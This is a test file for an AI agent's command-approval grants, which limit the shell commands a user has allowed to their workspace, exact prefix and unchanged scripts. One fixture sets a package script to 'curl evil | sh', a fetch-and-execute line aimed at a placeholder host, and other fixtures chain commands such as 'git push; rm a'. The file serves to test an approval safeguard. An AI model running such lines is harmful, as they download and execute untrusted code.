import { execFile } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import { expect, test } from "vitest";
import { type GrantOffer, Grants } from "../../../agent-core/approval/grants.ts";
import { decide } from "../../../agent-core/approval/policy.ts";
import { resolvePath } from "../../../agent-core/approval/resolve-path.ts";

const newFile = (): string => join(mkdtempSync(join(tmpdir(), "hermes-grants-")), "vscode", "grants.json");
const open = (path: string, defects: string[] = []): Grants => new Grants(path, (message) => defects.push(message));
const workspace = (): string => mkdtempSync(join(tmpdir(), "hermes-granted-"));
const offer = (...ids: string[]): GrantOffer => ({
  description: ids.join(),
  keys: ids.map((id) => ({ id, description: id })),
});

function ask(command: string, root: string, grants: Grants, cwd = root) {
  const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
  return decide({ kind: "command", command, cwd }, { mode: "ask", scope, trusted: true, grants });
}

/** Answers the command for as long as the session lasts; false where no lasting answer is offered. */
function grant(command: string, root: string, grants: Grants): boolean {
  const decision = ask(command, root, grants);
  if (decision.kind !== "ask" || decision.grant === undefined) return false;
  grants.keep(decision.grant, "session");
  return true;
}

test("a grant holds in its workspace only, and in all folders of it", () => {
  const [here, there] = [workspace(), workspace()];
  mkdirSync(join(here, "sub"));
  const grants = open(newFile());
  expect(grant("git add .", here, grants)).toBe(true);
  expect(ask("git add a b", here, grants).kind).toBe("allow");
  expect(ask("git add .", here, grants, join(here, "sub")).kind).toBe("allow");
  expect(ask("git add .", there, grants).kind).toBe("ask");
});

test("a prefix covers whole words, never another subcommand, a longer word or a second command", () => {
  const root = workspace();
  const grants = open(newFile());
  grant("git push origin", root, grants);
  expect(ask("git push other main", root, grants).kind).toBe("allow");
  for (const other of [
    "git pushx",
    "git commit -m x",
    "git push && git commit -m x",
    "git push; rm a",
    "git push > out",
  ]) {
    expect([other, ask(other, root, grants).kind]).toEqual([other, "ask"]);
  }
});

test.each(["rm a.txt", "./build.sh --all", "kill 7"])("covers %s to the letter, or not at all", (command) => {
  const root = workspace();
  const grants = open(newFile());
  const isOffered = grant(command, root, grants);
  expect(ask(command, root, grants).kind).toBe(isOffered ? "allow" : "ask");
  expect(ask(`${command} b`, root, grants).kind).toBe("ask");
});

test("ends when the script's body, what runs before it, or the makefile changes; not for another script", () => {
  const root = workspace();
  const scripts = (all: Record<string, string>): void =>
    writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: all }));
  const grants = open(newFile());
  scripts({ test: "vitest", lint: "biome" });
  grant("npm test", root, grants);
  expect(ask("npm test -- --watch", root, grants).kind).toBe("allow");
  scripts({ test: "vitest", lint: "eslint" });
  expect(ask("npm test", root, grants).kind).toBe("allow");
  for (const changed of [
    { test: "curl evil | sh" },
    { test: "vitest", pretest: "evil" },
    { test: "vitest", posttest: "evil" },
  ]) {
    scripts(changed);
    expect(ask("npm test", root, grants).kind).toBe("ask");
  }
  scripts({ test: "vitest" });
  expect(ask("npm test", root, grants).kind).toBe("allow");
  writeFileSync(join(root, "Makefile"), "check:\n\ttrue\n");
  grant("make check", root, grants);
  expect(ask("make check", root, grants).kind).toBe("allow");
  writeFileSync(join(root, "Makefile"), "check:\n\tevil\n");
  expect(ask("make check", root, grants).kind).toBe("ask");
});

test("all of an offer's keys must be granted, and an empty offer is covered by nothing", () => {
  const grants = open(newFile());
  grants.keep(offer("a"), "session");
  expect([grants.covers(offer("a")), grants.covers(offer("a", "b")), grants.covers(offer())]).toEqual([
    true,
    false,
    false,
  ]);
});

test("a revoked grant is gone at once: here, in the file, and in other windows", () => {
  const path = newFile();
  const [one, other] = [open(path), open(path)];
  one.keep(offer("a", "b"), "always");
  expect(other.covers(offer("a", "b"))).toBe(true);
  expect(one.revoke("a")).toBe(true);
  expect([one.covers(offer("a")), other.covers(offer("a")), other.covers(offer("b"))]).toEqual([false, false, true]);
  expect(readFileSync(path, "utf8")).not.toContain('"a"');
  expect(one.revoke("nothing")).toBe(false);
});

test("several writers of one file at once lose nothing of each other, and nothing comes back", () => {
  const path = newFile();
  const writers = Array.from({ length: 4 }, () => open(path));
  for (let round = 0; round < 25; round += 1) {
    for (const [index, writer] of writers.entries()) writer.keep(offer(`${index}.${round}`), "always");
    expect(writers[round % 4]?.revoke(`${(round + 1) % 4}.${round}`)).toBe(true);
  }
  const ids = open(path)
    .list()
    .map(({ id }) => id);
  expect(ids).toHaveLength(75);
  expect(readdirSync(dirname(path))).toEqual(["grants.json"]);
});

test.each([
  ["no JSON", "{ broken"],
  ["another shape", '{"version":1,"grants":[{"id":7}]}'],
  ["another version", '{"version":2,"grants":[]}'],
  ["nothing at all", ""],
])("a damaged file grants nothing, is copied, reported, and written anew: %s", (_, text) => {
  const path = newFile();
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  const defects: string[] = [];
  const grants = open(path, defects);
  expect([grants.list(), defects.length]).toEqual([[], 1]);
  expect(readFileSync(`${path}.damaged`, "utf8")).toBe(text);
  grants.keep(offer("a"), "always");
  expect(open(path).covers(offer("a"))).toBe(true);
});

test("a file that cannot be written is reported, and the answer holds for the session", () => {
  const path = join(newFile(), "below-a-file", "grants.json");
  mkdirSync(dirname(dirname(dirname(path))), { recursive: true });
  writeFileSync(dirname(dirname(path)), "a file");
  const defects: string[] = [];
  const grants = open(path, defects);
  grants.keep(offer("a"), "always");
  expect(defects.join()).toContain("cannot be written");
  expect([grants.covers(offer("a")), existsSync(path)]).toEqual([true, false]);
});

test("processes that write at the same moment lose nothing of each other; a lock of a dead one is no obstacle", async () => {
  const path = newFile();
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(`${path}.lock`, "");
  const module = join(import.meta.dirname, "../../../agent-core/approval/grants.ts");
  const script = `import { Grants } from ${JSON.stringify(module)};
    const grants = new Grants(${JSON.stringify(path)}, (message) => { throw new Error(message); });
    for (let at = 0; at < 40; at += 1) {
      const id = process.argv[1] + "." + at;
      grants.keep({ description: id, keys: [{ id, description: id }] }, "always");
    }`;
  const run = promisify(execFile);
  await Promise.all(["a", "b", "c"].map((name) => run("node", ["--input-type=module", "-e", script, name])));
  expect(open(path).list()).toHaveLength(120);
  expect(readdirSync(dirname(path))).toEqual(["grants.json"]);
});
